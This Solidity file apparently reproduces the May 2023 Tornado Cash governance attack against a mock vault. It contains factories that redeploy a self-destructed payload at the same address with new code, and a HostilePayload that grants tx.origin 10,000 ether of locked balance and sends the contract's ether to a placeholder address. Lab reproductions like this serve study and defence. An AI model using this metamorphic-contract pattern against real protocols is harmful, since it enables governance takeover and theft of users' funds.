// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

// Tornado Cash, May 2023: a payload that is run by delegatecall, destroyed after approval, and made again.
// Compiled for a fork before Cancun, so that contracts which destroy themselves can come back.

/// @dev Runs what its module says, also with its own storage and rights, as a Safe does.
contract ModuleVault {
    mapping(address => uint256) public lockedBalance;
    address public module;

    constructor(address module_) payable {
        module = module_;
    }

    function execTransactionFromModule(address to, uint256 value, bytes memory data, uint8 operation)
        external
        returns (bool success)
    {
        require(msg.sender == module, "ModuleVault: not the module");
        if (operation == 1) (success,) = to.delegatecall(data);
        else (success,) = to.call{value: value}(data);
        require(success, "ModuleVault: the call inside failed");
    }
}

contract Create2Factory {
    event Made(address made);

    function make(bytes32 salt, bytes memory code) external returns (address made) {
        assembly {
            made := create2(0, add(code, 32), mload(code), salt)
        }
        require(made != address(0), "Create2Factory: nothing was made");
        emit Made(made);
    }
}

/// @dev Always at the same address, so what it makes by CREATE is too, once both were destroyed.
contract TransientMaker {
    event Made(address made);

    function make(bytes memory code) external returns (address made) {
        assembly {
            made := create(0, add(code, 32), mload(code))
        }
        require(made != address(0), "TransientMaker: nothing was made");
        emit Made(made);
    }

    function destroy() external {
        selfdestruct(payable(msg.sender));
    }
}

contract RelayerPayload {
    event RelayersUpdated();

    function executeProposal() external {
        emit RelayersUpdated();
    }

    function emergencyStop() external {
        selfdestruct(payable(msg.sender));
    }
}

contract HostilePayload {
    mapping(address => uint256) internal _lockedBalance;

    function executeProposal() external {
        _lockedBalance[tx.origin] = 10_000 ether;
        payable(0x000000000000000000000000000000000000bEEF).transfer(address(this).balance);
    }
}

contract SteadyPayload {
    event RelayersUpdated();

    function executeProposal() external {
        emit RelayersUpdated();
    }
}
